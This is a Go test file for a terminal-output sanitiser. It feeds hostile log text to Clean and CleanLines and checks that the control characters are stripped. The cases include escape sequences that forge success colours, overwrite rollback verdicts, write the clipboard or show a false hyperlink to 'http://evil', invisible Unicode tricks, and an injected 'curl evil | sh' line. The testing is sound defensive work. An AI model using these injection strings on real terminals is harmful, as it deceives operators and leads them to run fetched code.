package console

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// TestTerminalInjection holds what a hostile pod log, commit subject or label
// may try to do to the terminal of the person who deploys.
func TestTerminalInjection(t *testing.T) {
	cases := []struct{ attack, text, want string }{
		{"colour a failure green", "\x1b[32mok\x1b[0m", "ok"},
		{"clear the screen", "before\x1b[2Jafter", "beforeafter"},
		{"move up and overwrite the verdict", "x\x1b[3A\rROLLED BACK", "x ROLLED BACK"},
		{"overwrite the own line", "panic: secret\rall is well", "panic: secret all is well"},
		{"backspace over text", "bad\b\b\bgood", "badgood"},
		{"set the window title", "a\x1b]0;owned\x07b", "a0;ownedb"},
		{"write the clipboard", "\x1b]52;c;ZXZpbA==\x1b\\", "52;c;ZXZpbA=="},
		{"hide a line in an unfinished string", "\x1b]0;real evidence", "0;real evidence"},
		{"device control string", "\x1bPq#0\x1b\\x", "q#0x"},
		{"reset the terminal", "a\x1bcb", "ab"},
		{"switch the character set", "a\x1b(0b", "ab"},
		{"8-bit control sequence", "a\u009b2Jb", "ab"},
		{"raw 8-bit byte", "a\x9b2Jb", "a\uFFFD2Jb"},
		{"hyperlink with a false text", "\x1b]8;;http://evil\x1b\\ok\x1b]8;;\x1b\\", "8;;http://evilok8;;"},
		{"right-to-left override", "user\u202Egpj.exe", "usergpj.exe"},
		{"invisible tag characters", "a\U000E0061b", "ab"},
		{"zero-width space in a name", "cl\u200bawql", "clawql"},
		{"fake line of our own", "x\nhint: curl evil | sh", "x hint: curl evil | sh"},
		{"line separator", "x\u2028y", "x y"},
		{"escape at the very end", "x\x1b", "x"},
		{"control sequence that breaks off", "x\x1b[12", "x"},
		{"bell", "\x07ding", "ding"},
		{"delete", "a\x7fb", "ab"},
		{"nested escape", "\x1b\x1b[31mred", "red"},
	}
	for _, c := range cases {
		if got := Clean(c.text); got != c.want {
			t.Errorf("%s: %q became %q, want %q", c.attack, c.text, got, c.want)
		}
	}
}

func TestCleanLinesKeepsTheShapeOfALog(t *testing.T) {
	if got := CleanLines("a\r\nb\tc\n\x1b[31md\x1b[0m\n"); got != "a\nb\tc\nd\n" {
		t.Errorf("%q", got)
	}
}

func TestCleanLeavesHonestTextAlone(t *testing.T) {
	for _, text := range []string{"", "a b", "Grüße, 世界 — 5 %", "naïve e\u0301", "[BLOCKED by PanGuard]"} {
		if got := Clean(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

func FuzzClean(f *testing.F) {
	f.Add("a\x1b[31mb\u009b2Jc\xffd\r\n\u202e")
	f.Fuzz(func(t *testing.T, text string) {
		clean := CleanLines(text)
		if !utf8.ValidString(clean) {
			t.Fatalf("%q is not UTF-8", clean)
		}
		for _, r := range clean {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Fatalf("%q left %q in %q", text, r, clean)
			}
		}
		if again := CleanLines(clean); again != clean {
			t.Fatalf("%q is not stable: %q", clean, again)
		}
		if strings.Contains(Clean(text), "\n") {
			t.Fatalf("Clean left a line break of %q", text)
		}
	})
}
